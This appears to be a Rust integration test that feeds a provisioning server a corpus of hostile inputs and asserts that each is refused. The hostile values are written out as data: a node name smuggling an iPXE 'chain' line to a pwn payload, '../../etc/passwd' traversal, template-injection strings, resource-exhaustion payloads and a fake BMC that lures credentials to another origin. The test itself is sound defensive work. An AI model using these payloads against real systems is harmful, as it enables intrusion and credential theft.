//! A hostile corpus against one real binary: requests, graphs, callback bodies, node ids
//! and names, BMC answers and gRPC messages that an attacker or a careless user would send.
//! Each gets a clear refusal or a bounded failure of its own task; after the whole corpus
//! the server is healthy and every earlier workflow and definition is intact.

mod support;

use std::time::{Duration, Instant};

use axum::Router;
use axum::routing::get;
use metalgraph::api::grpc::pb;
use pb::definitions_client::DefinitionsClient;
use serde_json::{Value, json};
use support::{Api, Server};
use tonic::Code;

const LIMIT: Duration = Duration::from_secs(60);

/// A deep flow-style YAML document: `[[[...1...]]]`.
fn deep(n: usize) -> String {
    format!("{}1{}", "[".repeat(n), "]".repeat(n))
}

async fn raw(api: &Api, method: &str, path: &str, ct: &str, body: String) -> (u16, Value) {
    let m = reqwest::Method::from_bytes(method.as_bytes()).unwrap();
    let r = api
        .http
        .request(m, format!("{}{path}", api.base))
        .header("content-type", ct)
        .body(body)
        .send()
        .await
        .unwrap();
    let status = r.status().as_u16();
    (status, r.json().await.unwrap_or(Value::Null))
}

/// Records what did not get `status` with a message naming every one of `words`.
fn check(wrong: &mut Vec<String>, what: &str, got: (u16, Value), status: u16, words: &[&str]) {
    let msg = message(&got.1);
    if got.0 != status || !words.iter().all(|w| msg.contains(w)) {
        wrong.push(format!(
            "{what}: got {} {}, expected {status} naming {words:?}",
            got.0, got.1
        ));
    }
}

fn message(body: &Value) -> String {
    body["error"]["message"]
        .as_str()
        .unwrap_or_default()
        .to_owned()
}

/// Runs `graph` (stored first) and waits for its end.
async fn run_graph(api: &Api, yaml: &str, name: &str, node: Option<&str>, options: Value) -> Value {
    let (code, body) = api.put_yaml("/api/2.0/workflows/graphs", yaml).await;
    assert!(code == 201 || code == 200, "{name}: {body}");
    api.run_wait(name, node, options, LIMIT).await
}

/// A fake BMC whose service root sends the driver, with the password, to another origin.
async fn luring_bmc(thief: &str) -> String {
    let systems = format!("{thief}/redfish/v1/Systems");
    let app = Router::new().route(
        "/redfish/v1/",
        get(move || {
            let s = systems.clone();
            async move { axum::Json(json!({"Systems": {"@odata.id": s}})) }
        }),
    );
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(l, app).await.unwrap() });
    format!("http://{addr}")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_hostile_corpus_is_refused_and_nothing_earlier_is_lost() {
    let data = tempfile::tempdir().unwrap();
    let templates = tempfile::tempdir().unwrap();
    std::fs::write(
        templates.path().join("callback.txt"),
        "{{ notification.url }}\n",
    )
    .unwrap();
    let grpc_port = metalgraph_testkit::free_tcp_port();
    let grpc = format!("127.0.0.1:{grpc_port}");
    let server = Server::start(
        data.path(),
        "sled",
        &[
            "--grpc-listen",
            &grpc,
            "--node-listen",
            "127.0.0.1:0",
            "--templates-dir",
            templates.path().to_str().unwrap(),
            // The "node" below fetches its callback from a template with no capability to
            // show: the node-facing tokens are opened (tests/pxe_profiles.rs covers the
            // guard).
            "--node-tokens",
            "open",
        ],
    );
    let api = server.api();

    // What must survive: a finished workflow, a running one, a user graph.
    let hold = "{injectableName: Keep.Hold, tasks: [{label: h, taskName: Task.Wait, optionOverrides: {duration: 1h}}]}";
    let done = run_graph(
        &api,
        "{injectableName: Keep.Done, tasks: [{label: a, taskName: Task.Noop}]}",
        "Keep.Done",
        None,
        json!({}),
    )
    .await;
    assert_eq!(done["status"], "succeeded");
    let (code, _) = api.put_yaml("/api/2.0/workflows/graphs", hold).await;
    assert_eq!(code, 201);
    let holding = api.run("Keep.Hold", None, json!({})).await;

    let mut wrong = Vec::new();

    // Item 2: deep YAML, on a definition, a run and the unauthenticated callback; quickly.
    let started = Instant::now();
    let got = api
        .put_yaml("/api/2.0/workflows/graphs", &deep(100_000))
        .await;
    check(
        &mut wrong,
        "deep YAML graph",
        got,
        400,
        &["nested deeper than 128"],
    );
    let got = raw(
        &api,
        "POST",
        "/api/2.0/workflows",
        "application/yaml",
        format!("name: Keep.Done\noptions: {}", deep(50_000)),
    )
    .await;
    check(
        &mut wrong,
        "deep YAML run",
        got,
        400,
        &["nested deeper than 128"],
    );
    let node_api = Api::new(server.node_base.as_deref().unwrap());
    let got = raw(
        &node_api,
        "POST",
        "/api/2.0/notification?nodeId=x&token=y",
        "application/yaml",
        deep(100_000),
    )
    .await;
    check(
        &mut wrong,
        "deep YAML callback",
        got,
        400,
        &["nested deeper than 128"],
    );
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "deep documents took {:?}",
        started.elapsed()
    );
    let mut defs = DefinitionsClient::new(server.grpc(grpc_port).await);
    let e = defs
        .put_graph(pb::PutGraphRequest {
            definition: Some(pb::put_graph_request::Definition::Text(deep(100_000))),
        })
        .await
        .unwrap_err();
    if e.code() != Code::InvalidArgument || !e.message().contains("nested deeper than 128") {
        wrong.push(format!("gRPC deep text: {e:?}"));
    }

    // Item 13: a gRPC Struct nested past protobuf's recursion limit is the client's error.
    let mut nested = json!(1);
    for _ in 0..60 {
        nested = json!({"x": nested});
    }
    let mut workflows = pb::workflows_client::WorkflowsClient::new(server.grpc(grpc_port).await);
    let options = json!({"defaults": {"deep": nested}});
    let e = workflows
        .run_graph(pb::RunGraphRequest {
            name: "Keep.Done".into(),
            node: String::new(),
            options: Some(metalgraph::api::grpc::to_pb_struct(
                options.as_object().unwrap(),
            )),
        })
        .await
        .unwrap_err();
    if e.code() != Code::InvalidArgument || !e.message().contains("cannot be decoded") {
        wrong.push(format!("gRPC deep Struct: {e:?}"));
    }

    // Item 12: duplicate keys, absurd _taskTimeout values.
    let got = raw(
        &api,
        "POST",
        "/api/2.0/nodes",
        "application/json",
        r#"{"name": "a", "name": "b"}"#.into(),
    )
    .await;
    check(
        &mut wrong,
        "duplicate JSON keys",
        got,
        400,
        &["duplicate key \"name\""],
    );
    for t in ["1e300", "-5", "18446744073709551615"] {
        let g = format!(
            "{{injectableName: Bad.Timeout, options: {{a: {{_taskTimeout: {t}}}}}, tasks: [{{label: a, taskName: Task.Noop}}]}}"
        );
        let got = api.put_yaml("/api/2.0/workflows/graphs", &g).await;
        check(
            &mut wrong,
            &format!("_taskTimeout {t}"),
            got,
            422,
            &["options._taskTimeout"],
        );
    }
    // Item 11: a retry storm.
    let g = "{injectableName: Storm, tasks: [{label: a, taskName: Task.Fail, retries: {max: 4000000000, backoff: 0s}}]}";
    let got = api.put_yaml("/api/2.0/workflows/graphs", g).await;
    check(
        &mut wrong,
        "retry storm",
        got,
        422,
        &[
            "retries.backoff",
            "at least 100ms",
            "retries.max",
            "at most 100",
        ],
    );

    // Item 8: ids.
    for id in ["..", "a/b", "nul\u{0}", &"x".repeat(100_000)] {
        let got = api
            .send(
                "POST",
                "/api/2.0/nodes",
                Some(json!({"id": id, "name": "n"})),
            )
            .await;
        check(
            &mut wrong,
            &format!("node id {:.20}", id),
            got,
            400,
            &["field 'id'"],
        );
    }
    let g = "{injectableName: ../../etc/passwd, tasks: [{label: a, taskName: Task.Noop}]}";
    let got = api.put_yaml("/api/2.0/workflows/graphs", g).await;
    check(
        &mut wrong,
        "graph name traversal",
        got,
        422,
        &["injectableName"],
    );
    // Item 9: a node name that would inject into a boot script.
    let got = api
        .send(
            "POST",
            "/api/2.0/nodes",
            Some(json!({"name": "evil\nchain http://127.0.0.1:1/pwn.ipxe"})),
        )
        .await;
    check(
        &mut wrong,
        "node name with a newline",
        got,
        400,
        &["control characters"],
    );

    // Item 5: subgraph cycles, static and dynamic.
    let g = "{injectableName: Self.Run, tasks: [{label: again, taskName: Task.Graph.Run, optionOverrides: {graphName: Self.Run}}]}";
    let got = api.put_yaml("/api/2.0/workflows/graphs", g).await;
    check(
        &mut wrong,
        "self-recursive graph",
        got,
        422,
        &["graph.run forms a cycle: Self.Run -> Self.Run"],
    );
    let g = "{injectableName: Dyn.Run, options: {defaults: {next: Dyn.Run}}, tasks: [{label: again, taskName: Task.Graph.Run, optionOverrides: {graphName: '{{ options.next }}'}}]}";
    let wf = run_graph(&api, g, "Dyn.Run", None, json!({})).await;
    assert_eq!(wf["status"], "failed", "{wf:#}");

    // Item 6: too many tasks, over REST and over gRPC (whose messages obey the body limit).
    let many: Vec<Value> = (0..1001)
        .map(|i| json!({"label": format!("t{i}"), "taskName": "Task.Noop"}))
        .collect();
    let got = api
        .send(
            "PUT",
            "/api/2.0/workflows/graphs",
            Some(json!({"injectableName": "Many", "tasks": many})),
        )
        .await;
    check(&mut wrong, "1001 tasks", got, 422, &["at most 1000"]);
    let e = defs
        .put_graph(pb::PutGraphRequest {
            definition: Some(pb::put_graph_request::Definition::Text(format!(
                "# {}",
                "x".repeat(2 << 20)
            ))),
        })
        .await
        .unwrap_err();
    if e.code() != Code::OutOfRange || !e.message().contains("too large") {
        wrong.push(format!("gRPC message over the body limit: {e:?}"));
    }

    // Item 3: templates over their limits fail their own task, clearly.
    let g = "{injectableName: Burn, tasks: [{label: a, taskName: Task.Fail, optionOverrides: {message: '{{ options.t }}'}}]}";
    let (code, _) = api.put_yaml("/api/2.0/workflows/graphs", g).await;
    assert_eq!(code, 201);
    for (t, words) in [
        (
            "{% for i in range(20000) %}{% for j in range(20000) %}{% endfor %}{% endfor %}",
            "more than 1000000 steps",
        ),
        (
            "{% for i in range(10) %}{{ 'a' * 100000000 }}{% endfor %}",
            "more than 1024 KiB",
        ),
    ] {
        let wf = api
            .run_wait("Burn", None, json!({"a": {"message": t}}), LIMIT)
            .await;
        let error = wf["tasks"][0]["error"]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        if wf["status"] != "failed" || !error.contains(words) {
            wrong.push(format!("template {t:.30}: {wf}"));
        }
    }

    // Item 4: a callback's text handed to a subgraph is data there, never a template.
    api.create_node(json!({"id": "n4", "name": "n4"})).await;
    let templates = r#"
injectableName: Second.Order
tasks:
  - {label: wait, taskName: Task.Wait.Notification}
  - label: sub
    taskName: Task.Graph.Run
    optionOverrides: {graphName: Child.Fail, graphOptions: {defaults: {message: "{{ context.wait.x }}"}}}
    waitOn: {wait: succeeded}
"#;
    for g in [
        templates,
        "{injectableName: Child.Fail, tasks: [{label: f, taskName: Task.Fail}]}",
    ] {
        let (code, body) = api.put_yaml("/api/2.0/workflows/graphs", g).await;
        assert_eq!(code, 201, "{body}");
    }
    let id = api.run("Second.Order", Some("n4"), json!({})).await;
    api.wait_task(&id, "wait", "running", LIMIT).await;
    let (_, wf) = api.get(&format!("/api/2.0/workflows/{id}")).await;
    let hostile = "{{ 7*7 }}{{ task.token }}";
    // The node learns its callback URL (with the token) from its template.
    let url = reqwest::get(server.node_url("/api/2.0/templates/callback.txt?nodeId=n4"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let r = reqwest::Client::new()
        .post(url.trim())
        .json(&json!({"x": hostile}))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200, "{wf}");
    let wf = api.wait(&id, LIMIT).await;
    let error = wf["tasks"][1]["error"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    if !error.ends_with(&format!("failed: {hostile}")) {
        wrong.push(format!("second-order template: {error}"));
    }

    // Item 1: a BMC that sends the driver elsewhere gets nothing across origins.
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = hits.clone();
    let thief = Router::new().fallback(move || {
        counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        async { "{}" }
    });
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let thief_addr = l.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(l, thief).await.unwrap() });
    let bmc = luring_bmc(&format!("http://{thief_addr}")).await;
    api.create_node(json!({"id": "lured", "name": "lured", "obms": [{"service": "redfish-obm-service", "config": {"host": bmc, "user": "root", "password": "s3cret-Pw"}}]})).await;
    let wf = api
        .run_wait("Graph.PowerOn.Node", Some("lured"), json!({}), LIMIT)
        .await;
    assert_eq!(wf["status"], "failed", "{wf:#}");
    assert!(wf.to_string().contains("leaves the BMC's origin"), "{wf:#}");
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the password went to another origin"
    );
    let got = api
        .send("PUT", "/api/2.0/nodes/lured/obm", Some(json!({"service": "redfish-obm-service", "config": {"host": format!("http://{thief_addr}"), "user": "root"}})))
        .await;
    check(
        &mut wrong,
        "OBM moved without its password",
        got,
        400,
        &["password"],
    );

    // Item 10: secrets in run options never come back.
    let secrets = json!({"defaults": {
        "passwd": "S1-secret", "pwd": "S2-secret", "credentials": {"pass": "S3-secret"},
        "auth": "S4-secret", "target": "https://root:S5-secret@10.0.0.1/x",
        "headers": {"Authorization": "Bearer S6-secret", "X-Api-Key": "S7-secret"}
    }});
    let wf = api.run_wait("Keep.Done", None, secrets, LIMIT).await;
    if wf.to_string().contains("-secret") {
        wrong.push(format!("secrets shown: {wf}"));
    }

    assert!(wrong.is_empty(), "\n{}", wrong.join("\n"));

    // The server is healthy and everything from before is intact.
    let (code, body) = api.get("/api/2.0/health").await;
    assert_eq!(code, 200, "{body}");
    let (_, again) = api
        .get(&format!(
            "/api/2.0/workflows/{}",
            done["instanceId"].as_str().unwrap()
        ))
        .await;
    assert_eq!(again["status"], "succeeded");
    let (_, still) = api.get(&format!("/api/2.0/workflows/{holding}")).await;
    assert_eq!(still["status"], "running", "{still}");
    let (code, _) = api.get("/api/2.0/workflows/graphs/Keep.Hold").await;
    assert_eq!(code, 200);
}
